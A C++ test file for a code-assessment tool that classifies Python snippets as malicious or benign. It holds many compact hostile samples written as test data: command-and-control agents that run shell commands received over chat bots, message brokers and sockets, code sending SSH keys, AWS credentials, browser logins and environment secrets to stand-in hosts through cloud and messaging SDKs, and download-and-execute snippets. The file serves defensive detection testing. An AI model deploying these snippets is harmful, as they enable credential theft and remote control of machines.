@@ -1,0 +1,214 @@
+// The coverage round (issue 14): families of spellings found missing by a
+// systematic audit of the rubric's classes against the standard library's and
+// common packages' APIs (docs/assessment-coverage.md), each closed as data in
+// the library model or as one mechanism for the family. Every malicious use
+// has a benign neighbour that must stay where the rubric puts it.
+// Strings here are never executed.
+#include "test_util.hpp"
+
+namespace mai::assess::test {
+namespace {
+
+// What a chat user, a message broker or a peer sends reaches the code through
+// handlers the library calls: decorated functions (a bot's message handler),
+// methods overriding a protocol base class, callbacks set as attributes, and
+// the receive calls of messaging clients. Run as a command it is remote code;
+// chosen from a table it is a process run.
+TEST(CoverageClasses, WhatAHandlerReceivesComesFromTheNetwork) {
+  const Case cases[] = {
+      {"a Telegram bot's /sh handler", B,
+       "import subprocess, os, telebot\nbot = telebot.TeleBot(os.environ['BOT_TOKEN'])\n"
+       "@bot.message_handler(commands=['sh'])\ndef shell(message):\n"
+       "    bot.reply_to(message, subprocess.getoutput(message.text.split(' ', 1)[1]))\n"
+       "bot.infinity_polling()\n",
+       "REMOTE-CODE-EXECUTION"},
+      {"a discord.py on_message event", B,
+       "import subprocess, discord\nclient = discord.Client(intents=discord.Intents.default())\n"
+       "@client.event\nasync def on_message(message):\n"
+       "    await message.channel.send(subprocess.getoutput(message.content[5:]))\n",
+       "REMOTE-CODE-EXECUTION"},
+      {"a twisted Protocol's dataReceived", B,
+       "import subprocess\nfrom twisted.internet import reactor, protocol\n"
+       "class Shell(protocol.Protocol):\n    def dataReceived(self, data):\n"
+       "        self.transport.write(subprocess.check_output(data, shell=True))\n",
+       "REMOTE-CODE-EXECUTION"},
+      {"an asyncio Protocol's data_received", B,
+       "import asyncio, os\nclass P(asyncio.Protocol):\n    def data_received(self, data):\n"
+       "        os.system(data.decode())\n",
+       "REMOTE-CODE-EXECUTION"},
+      {"paho's on_message set as an attribute", B,
+       "import subprocess\nimport paho.mqtt.client as mqtt\n"
+       "def on_message(client, userdata, msg):\n    client.publish('out', subprocess.check_output(msg.payload, shell=True))\n"
+       "c = mqtt.Client()\nc.on_message = on_message\nc.connect('broker.example.net')\nc.loop_forever()\n",
+       "REMOTE-CODE-EXECUTION"},
+      {"websockets iterated", B,
+       "import asyncio, subprocess, websockets\nasync def agent():\n"
+       "    async with websockets.connect('wss://c2.example.org/ws') as ws:\n"
+       "        async for message in ws:\n            await ws.send(subprocess.getoutput(message))\n",
+       "REMOTE-CODE-EXECUTION"},
+      {"ZeroMQ recv_string", B,
+       "import subprocess, zmq\ns = zmq.Context().socket(zmq.REQ)\ns.connect('tcp://198.51.100.21:5555')\n"
+       "while True:\n    s.send_string(subprocess.getoutput(s.recv_string()))\n",
+       "REMOTE-CODE-EXECUTION"},
+      {"Redis pub/sub messages", B,
+       "import subprocess, redis\nr = redis.Redis(host='198.51.100.20')\np = r.pubsub()\np.subscribe('cmd')\n"
+       "for m in p.listen():\n    r.publish('out', subprocess.getoutput(m['data']))\n",
+       "REMOTE-CODE-EXECUTION"},
+      {"a multiprocessing Client", B,
+       "from multiprocessing.connection import Client\nimport subprocess\n"
+       "conn = Client(('198.51.100.30', 6000), authkey=b'k')\nwhile True:\n    conn.send(subprocess.getoutput(conn.recv()))\n",
+       "REMOTE-CODE-EXECUTION"},
+      {"a paramiko channel", B,
+       "import paramiko, subprocess\nc = paramiko.SSHClient()\nc.load_system_host_keys()\nc.connect('203.0.113.9')\n"
+       "chan = c.get_transport().open_session()\nwhile True:\n    chan.send(subprocess.check_output(chan.recv(1024), shell=True))\n",
+       "REMOTE-CODE-EXECUTION"},
+      // Neighbours: a bot choosing among fixed commands, a sensor publishing,
+      // an echo protocol, a multiprocessing listener on loopback (pickle).
+      {"a chatops bot with a table of commands", M,
+       "import subprocess, telebot, os\nbot = telebot.TeleBot(os.environ['BOT_TOKEN'])\n"
+       "ALLOWED = {'uptime': ['uptime'], 'disk': ['df', '-h']}\n"
+       "@bot.message_handler(commands=['status'])\ndef status(message):\n    argv = ALLOWED.get(message.text.split()[-1])\n"
+       "    if argv:\n        bot.reply_to(message, subprocess.run(argv, capture_output=True, text=True).stdout)\n",
+       "RUNS-PROCESS"},
+      {"an MQTT sensor", L,
+       "import json, time, psutil\nimport paho.mqtt.client as mqtt\nc = mqtt.Client()\nc.connect('mqtt.home.arpa')\n"
+       "while True:\n    c.publish('pc/cpu', json.dumps({'cpu': psutil.cpu_percent()}))\n    time.sleep(60)\n"},
+      {"an echo protocol", L,
+       "from twisted.internet import protocol\nclass Echo(protocol.Protocol):\n"
+       "    def dataReceived(self, data):\n        self.transport.write(data)\n"},
+      {"a multiprocessing listener on loopback unpickles", M,
+       "from multiprocessing.connection import Listener\nwith Listener(('localhost', 6000), authkey=b'k') as l:\n"
+       "    with l.accept() as conn:\n        print(conn.recv())\n",
+       "UNSAFE-DESERIALIZATION"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// Messaging, cloud storage, file transfer, mail, chat and code-hosting SDKs
+// send what they are given: a secret handed to one leaves the machine. Every
+// method of an XML-RPC proxy sends its arguments.
+TEST(CoverageClasses, SdkClientsSendWhatTheyAreGiven) {
+  const Case cases[] = {
+      {"MQTT publish.single of a key", B,
+       "import os\nimport paho.mqtt.publish as publish\n"
+       "publish.single('loot/k', open(os.path.expanduser('~/.ssh/id_rsa')).read(), hostname='broker.example.net')\n",
+       "EXFILTRATION"},
+      {"Redis set of AWS credentials", B,
+       "import os, redis\nr = redis.Redis(host='198.51.100.20')\n"
+       "r.set('aws', open(os.path.expanduser('~/.aws/credentials')).read())\n",
+       "EXFILTRATION"},
+      {"RabbitMQ publish of the environment", B,
+       "import os, json, pika\nch = pika.BlockingConnection(pika.ConnectionParameters('mq.example.net')).channel()\n"
+       "ch.basic_publish(exchange='', routing_key='loot', body=json.dumps(dict(os.environ)))\n",
+       "EXFILTRATION"},
+      {"Kafka send of a key", B,
+       "import os\nfrom kafka import KafkaProducer\np = KafkaProducer(bootstrap_servers='kafka.example.net:9092')\n"
+       "p.send('loot', open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read())\n",
+       "EXFILTRATION"},
+      {"socket.io emit of the environment", B,
+       "import os, socketio\nsio = socketio.Client()\nsio.connect('http://198.51.100.22:5000')\nsio.emit('loot', dict(os.environ))\n",
+       "EXFILTRATION"},
+      {"an aiohttp websocket send_str", B,
+       "import asyncio, os, aiohttp\nasync def main():\n    async with aiohttp.ClientSession() as s:\n"
+       "        async with s.ws_connect('wss://c2.example.org/ws') as ws:\n"
+       "            await ws.send_str(open(os.path.expanduser('~/.ssh/id_rsa')).read())\n",
+       "EXFILTRATION"},
+      {"GCS upload_from_filename of credentials", B,
+       "import os\nfrom google.cloud import storage\n"
+       "storage.Client().bucket('loot').blob('aws').upload_from_filename(os.path.expanduser('~/.aws/credentials'))\n",
+       "EXFILTRATION"},
+      {"S3 Object.put of the environment", B,
+       "import os, json, boto3\nboto3.resource('s3').Object('b', 'env.json').put(Body=json.dumps(dict(os.environ)))\n",
+       "EXFILTRATION"},
+      {"Azure upload_blob of a key", B,
+       "import os\nfrom azure.storage.blob import BlobServiceClient\n"
+       "svc = BlobServiceClient.from_connection_string(os.environ['AZ_CONN'])\n"
+       "with open(os.path.expanduser('~/.ssh/id_rsa'), 'rb') as f:\n"
+       "    svc.get_blob_client(container='c', blob='k').upload_blob(f)\n",
+       "EXFILTRATION"},
+      {"Dropbox files_upload of a key", B,
+       "import os, dropbox\ndropbox.Dropbox('t').files_upload(open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read(), '/k')\n",
+       "EXFILTRATION"},
+      {"Drive MediaFileUpload of browser logins", B,
+       "import os\nfrom googleapiclient.http import MediaFileUpload\n"
+       "media = MediaFileUpload(os.path.expanduser('~/.config/google-chrome/Default/Login Data'))\n",
+       "EXFILTRATION"},
+      {"pysftp put of a key", B,
+       "import os, pysftp\nwith pysftp.Connection('files.example.org', username='u', password='p') as sftp:\n"
+       "    sftp.put(os.path.expanduser('~/.ssh/id_rsa'), '/up/id_rsa')\n",
+       "EXFILTRATION"},
+      {"scp.SCPClient put of credentials", B,
+       "import os, paramiko\nfrom scp import SCPClient\nc = paramiko.SSHClient()\nc.load_system_host_keys()\nc.connect('h')\n"
+       "with SCPClient(c.get_transport()) as scp:\n    scp.put(os.path.expanduser('~/.aws/credentials'), '/tmp/c')\n",
+       "EXFILTRATION"},
+      {"yagmail contents", B,
+       "import os, yagmail\nyagmail.SMTP('bot@example.org', 'pw').send(to='x@example.org', subject='k', "
+       "contents=open(os.path.expanduser('~/.ssh/id_ed25519')).read())\n",
+       "EXFILTRATION"},
+      {"a PyGithub gist", B,
+       "import os\nfrom github import Github, InputFileContent\ng = Github(os.environ['GH_TOKEN'])\n"
+       "g.get_user().create_gist(False, {'k': InputFileContent(open(os.path.expanduser('~/.ssh/id_rsa')).read())})\n",
+       "EXFILTRATION"},
+      {"telethon send_file", B,
+       "import os\nfrom telethon.sync import TelegramClient\nwith TelegramClient('s', 1, 'h') as client:\n"
+       "    client.send_file('me', os.path.expanduser('~/.aws/credentials'))\n",
+       "EXFILTRATION"},
+      {"dhooks webhook", B,
+       "import os\nfrom dhooks import Webhook\n"
+       "Webhook('https://discord.com/api/webhooks/1/x').send(os.environ['AWS_SECRET_ACCESS_KEY'])\n",
+       "EXFILTRATION"},
+      {"an XML-RPC proxy's method", B,
+       "import os, xmlrpc.client\nproxy = xmlrpc.client.ServerProxy('http://198.51.100.24:8000/')\n"
+       "proxy.store(open(os.path.expanduser('~/.ssh/id_rsa')).read())\n",
+       "EXFILTRATION"},
+      {"pycurl POSTFIELDS", B,
+       "import os, pycurl\nc = pycurl.Curl()\nc.setopt(pycurl.URL, 'http://198.51.100.25/k')\n"
+       "c.setopt(pycurl.POSTFIELDS, open(os.path.expanduser('~/.ssh/id_rsa')).read())\nc.perform()\n",
+       "EXFILTRATION"},
+      // Neighbours: the same SDKs with ordinary data.
+      {"a report uploaded to GCS", L,
+       "from google.cloud import storage\nstorage.Client().bucket('artifacts').blob('a.tgz').upload_from_filename('dist/a.tgz')\n"},
+      {"a temperature published", L, "import paho.mqtt.publish as publish\npublish.single('home/temp', '21.5', hostname='mqtt.local')\n"},
+      {"a report put by pysftp", L,
+       "import pysftp\nwith pysftp.Connection('files.example.com', username='u', private_key='~/.ssh/id_ed25519') as s:\n"
+       "    s.put('out/report.pdf', '/reports/report.pdf')\n"},
+      {"an XML-RPC status call", L,
+       "import xmlrpc.client\nproxy = xmlrpc.client.ServerProxy('http://localhost:9001/RPC2')\nprint(proxy.supervisor.getState())\n"},
+      {"pycurl posting a form field", L,
+       "import pycurl\nc = pycurl.Curl()\nc.setopt(pycurl.URL, 'https://example.com/form')\n"
+       "c.setopt(pycurl.POSTFIELDS, 'name=alice')\nc.perform()\n"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// What comes back from an SDK's download is data from the network: S3 and
+// GCS objects, FTP downloads through their callback, a pycurl write function.
+TEST(CoverageClasses, SdkDownloadsComeFromTheNetwork) {
+  const Case cases[] = {
+      {"an S3 object downloaded and run", B,
+       "import boto3, subprocess\nboto3.client('s3').download_file('b', 'agent.py', '/tmp/agent.py')\n"
+       "subprocess.run(['python3', '/tmp/agent.py'])\n",
+       "REMOTE-CODE-EXECUTION"},
+      {"a GCS blob executed", B,
+       "from google.cloud import storage\nexec(storage.Client().bucket('d').blob('s.py').download_as_text())\n",
+       "REMOTE-CODE-EXECUTION"},
+      {"an FTP download run", B,
+       "import ftplib, os\nftp = ftplib.FTP('ftp.example.net')\nftp.login()\nwith open('upd.bin', 'wb') as f:\n"
+       "    ftp.retrbinary('RETR upd.bin', f.write)\nos.chmod('upd.bin', 0o755)\nos.system('./upd.bin')\n",
+       "REMOTE-CODE-EXECUTION"},
+      {"pycurl into a buffer, executed", B,
+       "import pycurl\nfrom io import BytesIO\nbuf = BytesIO()\nc = pycurl.Curl()\n"
+       "c.setopt(c.URL, 'https://example.net/s.py')\nc.setopt(c.WRITEDATA, buf)\nc.perform()\nexec(buf.getvalue())\n",
+       "REMOTE-CODE-EXECUTION"},
+      // Neighbours: downloads kept as data.
+      {"an S3 report downloaded and read", L,
+       "import boto3, csv\nboto3.client('s3').download_file('b', 'r.csv', 'r.csv')\nprint(list(csv.reader(open('r.csv'))))\n"},
+      {"an FTP listing", M,
+       "import ftplib\nftp = ftplib.FTP('ftp.example.com')\nftp.login()\nftp.retrlines('LIST', print)\n",
+       "CLEARTEXT-PROTOCOL"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+}  // namespace
+}  // namespace mai::assess::test
